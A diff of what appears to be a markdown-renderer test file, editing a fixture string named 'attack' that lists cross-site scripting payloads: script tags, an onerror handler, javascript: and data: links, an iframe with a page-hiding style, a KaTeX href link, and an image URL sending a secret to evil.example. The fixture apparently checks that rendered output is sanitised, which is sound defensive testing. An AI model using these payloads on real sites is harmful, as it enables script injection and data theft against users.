@@ -48,11 +48,16 @@ const table = `| Device | Memory | Speed |
 `;
 
 const attack = `<script>window.attacked = 1</script>
+
 <img src=x onerror="window.attacked = 1">
+
 [click me](javascript:window.attacked=1) and [me](data:text/html,<script>window.attacked=1</script>)
+
 ![a picture](https://evil.example/collect?secret=1)
+
 <iframe src="https://evil.example"></iframe><style>body{display:none}</style>
-[a page](https://example.org/page)
+
+[a page](https://example.org/page) and $\\href{javascript:window.attacked=1}{x}$
 `;
 
 const usual = `A home has more computing power than its owners think. Three things decide **how fast** a model answers:
